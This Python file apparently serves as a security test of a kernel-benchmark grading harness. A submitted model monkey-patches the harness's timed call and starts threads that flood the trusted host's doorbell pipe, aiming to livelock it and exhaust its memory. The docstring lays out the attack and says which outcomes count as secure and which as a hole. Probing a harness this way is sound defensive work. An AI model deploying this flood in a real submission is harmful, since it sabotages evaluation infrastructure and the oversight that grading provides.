"""Floods the task host's doorbell (the pipe's write end the child holds, a BellRope's
fd) from WRITERS threads once its first timed call begins: valid one-byte rings (b"\\x01",
doorbell.SLOT), 64 KiB a write, as fast as the pipe takes them, after raising the pipe to
1 MiB (F_SETPIPE_SZ works from either end).

The task host answers a ring (host.py serve -> _answer_ring -> Doorbell.heard) by
_drain(): `while True: os.read(read_fd, 65536); data += chunk` until the pipe is empty.
The host holds the write end itself, so no EOF ends that loop: only an empty pipe does.
Writers that keep the pipe non-empty keep the trusted host in that loop, growing `data`
without bound, while it answers no other session and no command; then heard() walks
every byte in a Python loop. Nothing in the harness limits what a ring may carry before
it is parsed. The harness's own ring follows at the call's end as usual; then the
child lingers LINGER_S before it returns its report (the writers keep writing: the
server freezes the child's processes only once the report is in), so a host caught in
_drain() stays there that long, its `data` growing at the pipe's rate (GB/s), and then
parses every byte of it in Python (heard()'s per-byte loop: 1e9 bytes are many minutes).
CAUTION for whoever runs it: a livelocked drain can take tens of GB of the task host's
memory in LINGER_S seconds.

Expected, secure: the host stays responsive (the flood judged: the slot it copies on the
junk ring is poisoned, so cheat_detected, or the flood ignored), and an honest job on the
same server afterwards passes. A HOLE: the host dies (its out-of-memory or its death
blamed on the harness: harness_error / task_error for this or the next job), or the
server waits out its timeout."""
import fcntl
import os
import threading
import time

import torch

import kforge_harness.candidate.candidate as _child

WRITERS = 4
LINGER_S = 10.0
F_SETPIPE_SZ = 1031
_started = []


def _flood(fd):
    chunk = b"\x01" * 65536
    while True:
        try:
            os.write(fd, chunk)
        except BlockingIOError:
            pass
        except OSError:
            return


def _timed_call_flooding(original):
    def call(self, model, command):
        bell = self.buffers.get("doorbell")
        if bell is not None and not _started:
            try:
                fcntl.fcntl(bell.fd, F_SETPIPE_SZ, 1 << 20)
            except OSError:
                pass
            for _ in range(WRITERS):
                thread = threading.Thread(target=_flood, args=(bell.fd,), daemon=True)
                thread.start()
                _started.append(thread)
        report = original(self, model, command)
        time.sleep(LINGER_S)
        return report
    return call


_child.CandidateChild._timed_call = _timed_call_flooding(_child.CandidateChild._timed_call)


class ModelNew(torch.nn.Module):
    def forward(self, x):
        return torch.relu(x)
